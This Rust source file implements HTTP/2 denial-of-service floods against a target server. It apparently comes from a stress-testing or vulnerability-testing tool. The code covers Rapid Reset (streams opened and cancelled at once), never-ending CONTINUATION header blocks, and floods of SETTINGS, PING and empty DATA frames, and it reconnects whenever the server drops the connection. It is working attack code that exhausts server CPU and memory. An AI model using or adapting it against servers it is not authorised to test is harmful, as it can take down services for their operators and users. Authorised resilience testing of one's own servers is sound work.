//! Floods of small frames, each of which costs the server work or memory.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use super::Target;
use crate::http2::{
    frame, header, request, setting, Http2, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
    INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
};

/// Bounds the rate of each connection to 5,000 units a second.
const BATCH: u32 = 50;
const PAUSE: Duration = Duration::from_millis(10);
/// The stream of a request that never ends.
const UNENDED: u32 = 1;

/// The unit that is sent over and over.
#[derive(Clone, Copy)]
pub(crate) enum Frames {
    /// A request that is canceled at once.
    RapidReset,
    /// A part of a head that never ends.
    Continuation,
    /// The same without bytes.
    EmptyContinuation,
    /// A change of settings.
    Settings,
    /// A ping.
    Ping,
    /// A part of a body without bytes.
    EmptyData,
}

/// Sends units until `done`, over a new connection whenever the server closes one or stops reading. Unless it
/// `reads`, the server's acknowledgements are left to queue up.
pub(crate) fn send_frames(
    frames: Frames,
    target: Target<'_>,
    reads: bool,
    done: &AtomicBool,
    sent: &AtomicU64,
) {
    let block = request("GET", target.path);
    while !done.load(Ordering::Acquire) {
        if let Ok(mut connection) = Http2::connect(target.address, &[]) {
            let mut batch = frames.opening(&mut connection, target.path);
            while !done.load(Ordering::Acquire) {
                batch.extend((0..BATCH).flat_map(|number| frames.unit(number, &mut connection, &block)));
                if connection.send(&batch).is_err() || reads && connection.discard_received().is_err() {
                    break;
                }
                sent.fetch_add(BATCH.into(), Ordering::Relaxed);
                batch.clear();
                thread::sleep(PAUSE);
            }
        }
        thread::sleep(PAUSE);
    }
}

impl Frames {
    /// What a connection begins with.
    fn opening(self, connection: &mut Http2, path: &str) -> Vec<u8> {
        let flags = match self {
            Self::RapidReset | Self::Settings | Self::Ping => return Vec::new(),
            Self::Continuation | Self::EmptyContinuation => END_STREAM,
            Self::EmptyData => END_HEADERS,
        };
        frame(HEADERS, flags, connection.open_stream(), &request("POST", path))
    }

    fn unit(self, number: u32, connection: &mut Http2, block: &[u8]) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let stream = connection.open_stream();
                let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, block);
                [head, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
            }
            Self::Continuation => frame(CONTINUATION, 0, UNENDED, &header("x-flood", &"a".repeat(1000))),
            Self::EmptyContinuation => frame(CONTINUATION, 0, UNENDED, &[]),
            Self::Settings => {
                let window = setting(INITIAL_WINDOW_SIZE, 65_535 - number % 2);
                frame(SETTINGS, 0, 0, &window)
            }
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::EmptyData => frame(DATA, 0, UNENDED, &[]),
        }
    }
}
